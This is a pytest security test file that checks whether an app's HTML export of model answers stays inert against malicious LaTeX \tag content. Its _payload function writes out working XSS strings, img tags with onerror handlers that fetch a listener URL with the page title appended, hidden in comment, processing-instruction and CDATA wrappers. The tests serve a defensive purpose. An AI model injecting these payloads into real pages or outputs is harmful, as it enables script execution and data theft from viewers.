"""An exported page never runs script or fetches anything, whatever the model wrote (issue 22, High 2).

latex2mathml copies the text of ``\\tag{...}`` into the MathML unescaped; an XML parser reads
``<!--> <img onerror> -->`` and ``<?a > <img> ?>`` as a comment and a processing instruction, while the
browser's HTML parser builds a live ``<img onerror>`` from them. Here the whole path runs for real: a
misbehaving model server (tests/stub_openai.py, the app's ``--server`` path) answers with such
payloads, a real Chromium asks on the page and clicks Export, the exported file is saved and opened
from disk, and a listener on a local port records anything the opened page sends.
"""

from __future__ import annotations

import time

import pytest

from tests.browser_app import chromium, needs_chromium
from tests.security.conftest import app_on_stub

pytestmark = needs_chromium


def _payload(L: str) -> str:
    return (f"So $$x = 2 \\tag{{<!--> <img src={L}/comment.png onerror=fetch(this.src+document.title)> -->}}$$ "
            f"and $$y = 1 \\tag{{<?a > <img src={L}/pi.png onerror=fetch(this.src+1)> ?>}}$$ and "
            f"$z = 3 \\tag{{<![CDATA[ > <img src={L}/cdata.png onerror=fetch(this.src+1)> ]]>}}$ "
            f"and \\(w \\tag{{</mtext><img src={L}/close.png></math>}}\\), answer $\\boxed{{2}}$.")


@pytest.fixture(scope="module")
def exported(tmp_path_factory, listener):
    L = listener.url
    root = tmp_path_factory.mktemp("sanitize-export")
    with app_on_stub(root, [_payload(L), "</think>", _payload(L)]) as (url, store, stub), chromium() as browser:
        page = browser.new_context(viewport={"width": 1280, "height": 1000}, locale="en-US").new_page()
        page.set_default_timeout(90_000)
        page.goto(url, wait_until="load")
        page.wait_for_function("() => (document.querySelector('#r1v-status-banner')?.innerText || '').includes('stub')"
                               " && document.querySelector('#r1v-ask-btn')?.innerText.trim() === 'Solve'")
        page.locator("#r1v-question textarea").fill("Solve 2x + 3 = 7.")
        page.locator("#r1v-ask-btn").click()
        page.wait_for_function("() => (document.querySelector('#r1v-status')?.innerText || '').startsWith('Done in')",
                               polling=50)
        page.locator("#r1v-history").get_by_text("My problems").first.click()  # open the accordion
        page.locator("#r1v-history button", has_text="Export as HTML").click()
        link = page.locator("a[href*='r1v-problem-']").first
        link.wait_for()
        href = link.get_attribute("href")
        body = page.request.get(href if href.startswith("http") else url.rstrip("/") + "/" + href.lstrip("/")).body()
        saved = root / "exported.html"
        saved.write_bytes(body)
        assert listener.hits == []  # nothing left while the app page rendered the reply
        opened = browser.new_context().new_page()
        opened.goto(saved.as_uri(), wait_until="load")
        time.sleep(2.0)  # an onerror handler or an image fetch has had time to run
        yield opened, body.decode("utf-8"), listener


def test_opening_the_export_runs_no_script_and_sends_nothing(exported):
    page, _, listener = exported
    assert listener.hits == []
    live = page.evaluate("""() => [...document.querySelectorAll('*')].filter(e =>
        [...e.attributes].some(a => a.name.startsWith('on')) || (e.tagName === 'IMG' && !e.src.startsWith('data:'))
        || ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(e.tagName)).map(e => e.outerHTML.slice(0, 80))""")
    assert live == []


def test_the_export_still_shows_the_math_and_the_tags_text(exported):
    page, _, _ = exported
    text = page.inner_text("body")
    assert page.locator("math").count() >= 1 and "Solve 2x + 3 = 7." in text
    assert "onerror" in text  # the payload is shown as the model's text, not built into the page


def test_the_export_carries_a_strict_content_security_policy(exported):
    page, html, _ = exported
    policy = page.evaluate("() => document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]')?.content")
    assert policy, "no Content-Security-Policy <meta> in the export"
    directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
    assert directives["default-src"] == ["'none'"] and directives["img-src"] == ["data:"]
    assert "script-src" not in directives and "'unsafe-eval'" not in policy
    assert html.index("Content-Security-Policy") < html.index("<body")  # before anything it governs
